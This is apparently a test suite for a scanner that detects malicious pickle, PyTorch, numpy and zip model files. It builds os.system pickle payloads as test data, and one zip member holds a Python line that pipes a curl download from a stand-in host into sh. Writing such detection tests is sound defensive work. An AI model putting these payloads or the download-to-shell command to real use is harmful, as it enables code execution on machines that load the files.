import { gzipSync } from 'node:zlib';
import { xz } from '@napi-rs/lzma';
import { describe, expect, it } from 'vitest';
import { pickle } from '../../src/formats/pickle/builder.js';
import { buildZip } from '../../src/formats/zip/builder.js';
import { osSystemPickle, plainPickle, repeated } from '../helpers/pickles.js';
import { scanBytes } from '../helpers/scan-bytes.js';

const ruleIds = (f: { findings: Array<{ ruleId: string }> }) => f.findings.map((x) => x.ruleId);
const codes = (f: { findings: Array<{ code?: string }> }) => f.findings.map((x) => x.code).filter(Boolean);

describe('raw pickles', () => {
  it('detects by content whatever the extension', async () => {
    const f = await scanBytes(osSystemPickle(), { name: 'notes.txt' });
    expect(f.format).toBe('pickle');
    expect(f.verdict).toBe('malicious');
  });
  it('reads a second pickle after STOP', async () => {
    const f = await scanBytes(Buffer.concat([plainPickle(), osSystemPickle()]));
    expect(f.verdict).toBe('malicious');
  });
  it('resolves memoised names read back after the reader moved past them', async () => {
    // 'os' and 'system' are memoised first, then 6 MB of bytes push them out of the reader's
    // window; GET must still give the literal strings to STACK_GLOBAL.
    const f = await scanBytes(
      pickle()
        .proto(4)
        .shortBinunicode('os')
        .memoize()
        .shortBinunicode('system')
        .memoize()
        .binbytes(Buffer.alloc(6 * 1024 * 1024))
        .pop()
        .binget(0)
        .binget(1)
        .stackGlobal()
        .shortBinunicode('id')
        .tuple1()
        .reduce()
        .stop()
        .bytes(),
    );
    expect(f.verdict).toBe('malicious');
    expect(f.findings[0]?.evidence).toBe("os.system('id')");
  });
  it('reports trailing bytes that are not a pickle as info and stays clean', async () => {
    const f = await scanBytes(Buffer.concat([plainPickle(), Buffer.from([0xff, 0xfe, 0x00, 0x01])]));
    expect(f.verdict).toBe('clean');
    expect(ruleIds(f)).toContain('container/trailing-data');
  });
  it('reports a payload before a broken opcode, and the break', async () => {
    const f = await scanBytes(Buffer.concat([osSystemPickle().subarray(0, -1), Buffer.from([0xff])]));
    expect(f.verdict).toBe('malicious');
    expect(codes(f)).toContain('BAD_OPCODE');
  });
  it('gives a truncated file verdict error', async () => {
    const f = await scanBytes(plainPickle().subarray(0, 8));
    expect(f.verdict).toBe('error');
    expect(f.findings.some((x) => x.fatal)).toBe(true);
  });
  it('gives a length field of 2^62 a typed error, fast', async () => {
    const f = await scanBytes(
      pickle()
        .proto(4)
        .binbytes8('abc', { length: 1n << 62n })
        .bytes(),
    );
    expect(f.verdict).toBe('error');
    expect(codes(f)[0]).toMatch(/MALFORMED|TRUNCATED/);
  });
  it('stops a million MARKs at the mark limit', async () => {
    const f = await scanBytes(
      pickle()
        .proto(2)
        .raw(repeated((b) => b.mark(), 1_000_000))
        .bytes(),
    );
    expect(f.verdict).toBe('error');
    expect(codes(f)).toContain('LIMIT_MARKS');
  });
  it('skips a string operand over the string limit with a typed low finding', async () => {
    const f = await scanBytes(
      pickle()
        .proto(3)
        .binbytes(Buffer.alloc(2 * 1024 * 1024))
        .stop()
        .bytes(),
      {
        limits: { maxStringBytes: 1024 * 1024 },
      },
    );
    expect(f.findings.map((x) => [x.ruleId, x.severity, x.code])).toEqual([['pickle/oversized-operand', 'low', 'LIMIT_STRING']]);
  });
  it('stops at the memo limit', async () => {
    const f = await scanBytes(
      pickle()
        .proto(4)
        .none()
        .raw(repeated((b) => b.memoize(), 100))
        .stop()
        .bytes(),
      { limits: { maxMemoEntries: 10 } },
    );
    expect(codes(f)).toContain('LIMIT_MEMO');
    expect(f.verdict).toBe('error');
  });
  it('stops at the opcode limit', async () => {
    const f = await scanBytes(
      pickle()
        .proto(2)
        .none()
        .raw(repeated((b) => b.dup(), 5000))
        .stop()
        .bytes(),
      { limits: { maxOpcodes: 1000 } },
    );
    expect(codes(f)).toContain('LIMIT_OPCODES');
    expect(f.verdict).toBe('error');
  });
});

describe('zip containers', () => {
  const pkl = osSystemPickle();
  it.each([
    ['stored data.pkl', { name: 'archive/data.pkl', data: pkl }],
    ['deflated data.pkl', { name: 'archive/data.pkl', data: pkl, deflate: true }],
    ['flags claiming encryption over plain bytes', { name: 'archive/data.pkl', data: pkl, flags: 1 }],
    ['flag bits 0x20 and 0x40', { name: 'archive/data.pkl', data: pkl, flags: 0x60 }],
    ['a bad CRC', { name: 'archive/data.pkl', data: pkl, crc32: 0xdeadbeef }],
    ['a local name that differs', { name: 'archive/data.pkl', data: pkl, localName: 'archive/datap.kl' }],
    ['an unusual top folder', { name: 'weird/inner/data.pkl', data: pkl }],
    ['a pickle in a .txt member', { name: 'notes.txt', data: pkl }],
  ])('finds the payload with %s', async (_what, entry) => {
    const f = await scanBytes(buildZip([entry]));
    expect(f.verdict).toBe('malicious');
  });
  it('finds entries hidden from the central directory', async () => {
    const f = await scanBytes(
      buildZip([
        { name: 'archive/data.pkl', data: plainPickle() },
        { name: 'archive/x.pkl', data: pkl, hidden: true },
      ]),
    );
    expect(f.verdict).toBe('malicious');
    expect(ruleIds(f)).toContain('container/zip-differential');
  });
  it('never parses a referenced tensor storage, and ignores partial pickles in other members', async () => {
    // data.pkl: {'w': persistent_load(('storage', torch.FloatStorage, '0', 'cpu', 2))}
    const dataPkl = pickle()
      .proto(2)
      .emptyDict()
      .binunicode('w')
      .mark()
      .binunicode('storage')
      .global('torch', 'FloatStorage')
      .binunicode('0')
      .binunicode('cpu')
      .binint1(2)
      .tuple()
      .binpersid()
      .setitem()
      .stop()
      .bytes();
    const storageLooksLikePayload = osSystemPickle();
    const f = await scanBytes(
      buildZip([
        { name: 'archive/data.pkl', data: dataPkl },
        { name: 'archive/data/0', data: storageLooksLikePayload },
        { name: 'archive/data/1', data: pickle().proto(2).global('foo', 'bar').bytes() },
        { name: 'archive/version', data: Buffer.from('3\n') },
      ]),
    );
    expect(f.format).toBe('pytorch-zip');
    expect(f.verdict).toBe('clean');
  });
  it('reads members of no model format for what they are: a module, compiled code, unknown bytes', async () => {
    const module = Buffer.from('import os\nos.system("curl -s https://example.invalid/x | sh")\n');
    const code = await scanBytes(buildZip([{ name: 'repo/modeling_x.py', data: module }]));
    expect(code.verdict).toBe('malicious');
    expect(ruleIds(code)).toContain('python/download-to-shell');
    const library = await scanBytes(buildZip([{ name: 'lib/libops.so', data: Buffer.concat([Buffer.from('\x7fELF', 'latin1'), Buffer.alloc(60)]) }]));
    expect(ruleIds(library)).toEqual(['file/compiled-code']);
    const unknown = await scanBytes(buildZip([{ name: 'blob.bin', data: Buffer.from([0xde, 0xad, 0xbe, 0xef, 0, 1, 2, 3]) }]));
    expect(unknown.verdict).toBe('error');
    expect(ruleIds(unknown)).toEqual(['file/unrecognised-format']);
  });
  it('takes the raw tensor files a torch.export archive names in its configs as tensor bytes', async () => {
    const config = { config: { weight: { path_name: 'weight_0', is_param: true, use_pickle: false } } };
    const pt2 = (configured: string) =>
      buildZip([
        { name: 'm/archive_format', data: Buffer.from('pt2') },
        { name: 'm/data/weights/model_weights_config.json', data: Buffer.from(JSON.stringify(config)) },
        { name: `m/data/weights/${configured}`, data: Buffer.from([0xd4, 0x49, 0x9b, 0x3e, 0xfa, 0x24, 0xfb, 0xbe]) },
      ]);
    expect((await scanBytes(pt2('weight_0'))).verdict).toBe('clean');
    // Bytes the config does not name are no tensor the loader reads: unknown, so not read.
    expect((await scanBytes(pt2('weight_9'))).verdict).toBe('error');
  });
  it('stops a zip bomb at the decompression limit', async () => {
    const f = await scanBytes(buildZip([{ name: 'archive/data.pkl', data: Buffer.alloc(64 * 1024 * 1024), deflate: true }]), {
      limits: { maxDecompressedBytes: 8 * 1024 * 1024 },
    });
    expect(f.verdict).toBe('error');
    expect(codes(f)).toContain('LIMIT_DECOMPRESSED_BYTES');
  });
  it('stops a member over the member limit', async () => {
    const f = await scanBytes(buildZip([{ name: 'archive/data.pkl', data: Buffer.alloc(4 * 1024 * 1024), deflate: true }]), {
      limits: { maxMemberBytes: 1024 * 1024 },
    });
    expect(codes(f)).toContain('LIMIT_MEMBER_BYTES');
    expect(f.verdict).toBe('error');
  });
  it('stops at the compression ratio limit', async () => {
    const f = await scanBytes(buildZip([{ name: 'archive/data.pkl', data: Buffer.alloc(32 * 1024 * 1024), deflate: true }]), {
      limits: { maxCompressionRatio: 10 },
    });
    expect(codes(f)).toContain('LIMIT_RATIO');
    expect(f.verdict).toBe('error');
  });
  it('stops nesting at the depth limit', async () => {
    let inner = buildZip([{ name: 'archive/data.pkl', data: plainPickle() }]);
    for (let i = 0; i < 4; i++) inner = buildZip([{ name: `nested${i}.zip`, data: inner }]);
    const f = await scanBytes(inner, { limits: { maxNestingDepth: 2 } });
    expect(f.verdict).toBe('error');
    expect(codes(f)).toContain('LIMIT_DEPTH');
  });
  it('gives a zip cut short verdict error, with what it held still reported', async () => {
    const whole = buildZip([
      { name: 'archive/data.pkl', data: plainPickle() },
      { name: 'archive/x.pkl', data: pkl },
    ]);
    const cut = await scanBytes(whole.subarray(0, whole.length - 30));
    expect(cut.verdict).toBe('malicious');
    expect(codes(cut)).toContain('MALFORMED');
    const cleanCut = buildZip([
      { name: 'archive/data.pkl', data: plainPickle() },
      { name: 'archive/data/0', data: Buffer.alloc(64) },
    ]);
    const f = await scanBytes(cleanCut.subarray(0, cleanCut.length - 30));
    expect(f.verdict).toBe('error');
  });
  it('scans a zip with bytes before its first entry', async () => {
    const f = await scanBytes(buildZip([{ name: 'archive/data.pkl', data: pkl }], { prefix: Buffer.from('junk-before-the-zip') }));
    expect(f.verdict).toBe('malicious');
  });
});

describe('numpy', () => {
  const npy = (descr: string, shape: string, data: Buffer): Buffer => {
    let header = `{'descr': '${descr}', 'fortran_order': False, 'shape': ${shape}, }`;
    header += ' '.repeat(63 - ((10 + header.length) % 64)) + '\n';
    const len = Buffer.alloc(2);
    len.writeUInt16LE(header.length);
    return Buffer.concat([Buffer.from('\x93NUMPY\x01\x00', 'latin1'), len, Buffer.from(header), data]);
  };
  it('reads an object array as a pickle', async () => {
    const f = await scanBytes(npy('|O', '(1,)', osSystemPickle()));
    expect(f.format).toBe('npy');
    expect(f.verdict).toBe('malicious');
  });
  it('keeps a numeric array clean', async () => {
    const f = await scanBytes(npy('<f4', '(2, 3)', Buffer.alloc(24)));
    expect(f).toMatchObject({ format: 'npy', verdict: 'clean' });
  });
  it('gives a truncated numeric array verdict error', async () => {
    const f = await scanBytes(npy('<f8', '(100,)', Buffer.alloc(16)));
    expect(f.verdict).toBe('error');
    expect(codes(f)).toContain('TRUNCATED');
  });
  it('scans npy members of an npz', async () => {
    const f = await scanBytes(
      buildZip([
        { name: 'a.npy', data: npy('<f4', '(2,)', Buffer.alloc(8)) },
        { name: 'b.npy', data: npy('|O', '(1,)', osSystemPickle()) },
      ]),
    );
    expect(f.format).toBe('npz');
    expect(f.verdict).toBe('malicious');
  });
});

describe('compressed wrappers', () => {
  it('reads gzip', async () => {
    const f = await scanBytes(gzipSync(osSystemPickle()));
    expect(f).toMatchObject({ format: 'pickle-gzip', verdict: 'malicious' });
  });
  it('reads xz', async () => {
    const f = await scanBytes(xz.compressSync(osSystemPickle()));
    expect(f).toMatchObject({ format: 'pickle-xz', verdict: 'malicious' });
  });
  it('gives a broken gzip verdict error', async () => {
    const f = await scanBytes(gzipSync(osSystemPickle()).subarray(0, 12));
    expect(f.verdict).toBe('error');
  });
});

describe('nested loaders', () => {
  const loadFromBytes = (payload: Buffer, protocol: 2 | 3): Buffer => {
    const b = pickle().proto(protocol).global('torch.storage', '_load_from_bytes');
    // Protocol 3 has BINBYTES; protocol 2 spells bytes as _codecs.encode(latin-1 text, 'latin1').
    if (protocol === 3) b.binbytes(payload);
    else b.global('_codecs', 'encode').binunicode(payload.toString('latin1')).binunicode('latin1').tuple2().reduce();
    return b.tuple1().reduce().stop().bytes();
  };
  it.each([2, 3] as const)('judges torch.storage._load_from_bytes by the bytes it loads (protocol %i)', async (protocol) => {
    expect((await scanBytes(loadFromBytes(plainPickle(), protocol))).verdict).toBe('clean');
    const evil = await scanBytes(loadFromBytes(osSystemPickle(), protocol));
    expect(evil.verdict).toBe('malicious');
    expect(evil.findings.map((f) => f.target)).toEqual([expect.stringMatching(/!\/<embedded@\d+>$/)]);
  });
  it('gives loaded bytes that are no model verdict error', async () => {
    const f = await scanBytes(loadFromBytes(Buffer.from('plain text, not a model at all'), 3));
    expect(f.verdict).toBe('error');
    expect(codes(f)).toEqual(['UNSUPPORTED']);
  });
});

describe('legacy torch', () => {
  // The pickles torch.serialization's legacy _save writes before the object: its magic number,
  // protocol version and sys info; then, after the object, the storage keys.
  const magic = pickle().proto(2).long1(0x1950a86a20f9469cfc6cn).stop().bytes();
  const protocol = pickle().proto(2).binint2(1001).stop().bytes();
  const sysInfo = pickle().proto(2).emptyDict().stop().bytes();
  const noKeys = pickle().proto(2).emptyList().stop().bytes();
  /**
   * A whole module saved in the legacy format: the class comes through a persistent id
   * ('module', cls, source_file, source), and torch's persistent_load returns cls, which the
   * pickle then instantiates with NEWOBJ (as torch.save writes it) or calls with REDUCE.
   */
  const moduleRecord = (module: string, name: string, call: 'newobj' | 'reduce', arg = '') => {
    const b = pickle()
      .proto(2)
      .mark()
      .binunicode('module')
      .global(module, name)
      .binunicode('/site-packages/torch/nn/modules/linear.py')
      .binunicode('class Linear(Module): ...')
      .tuple()
      .binpersid();
    if (call === 'newobj') b.binput(0).emptyTuple().newobj().emptyDict().build();
    else b.binunicode(arg).tuple1().reduce();
    return Buffer.concat([magic, protocol, sysInfo, b.stop().bytes(), noKeys]);
  };

  it('resolves module records as torch does: a whole nn.Module saved in the legacy format stays clean', async () => {
    const f = await scanBytes(moduleRecord('torch.nn.modules.linear', 'Linear', 'newobj'));
    expect(f).toMatchObject({ format: 'pytorch-legacy', verdict: 'clean' });
  });

  it('judges the class a module record names like any other: os.system behind one is malicious', async () => {
    const f = await scanBytes(moduleRecord('os', 'system', 'reduce', 'echo pwned'));
    expect(f.verdict).toBe('malicious');
    expect(f.findings.some((x) => x.message.includes("os.system('echo pwned')"))).toBe(true);
  });

  it('skips storages by their declared size and reads the pickle after them', async () => {
    const main = pickle()
      .proto(2)
      .mark()
      .binunicode('storage')
      .global('torch', 'FloatStorage')
      .binunicode('0')
      .binunicode('cpu')
      .binint1(2)
      .tuple()
      .binpersid()
      .stop()
      .bytes();
    const keys = pickle().proto(2).emptyList().binunicode('0').append().stop().bytes();
    const count = Buffer.alloc(8);
    count.writeBigInt64LE(2n);
    // The storage bytes themselves spell a payload: they must be skipped, not parsed.
    const storage = pickle().global('os', 'system').bytes().subarray(0, 6);
    const clean = Buffer.concat([magic, protocol, sysInfo, main, keys, count, Buffer.concat([storage, Buffer.alloc(8 - storage.length)])]);
    const cleanResult = await scanBytes(clean);
    expect(cleanResult).toMatchObject({ format: 'pytorch-legacy', verdict: 'clean' });
    const withTail = await scanBytes(Buffer.concat([clean, osSystemPickle()]));
    expect(withTail.verdict).toBe('malicious');
  });
});
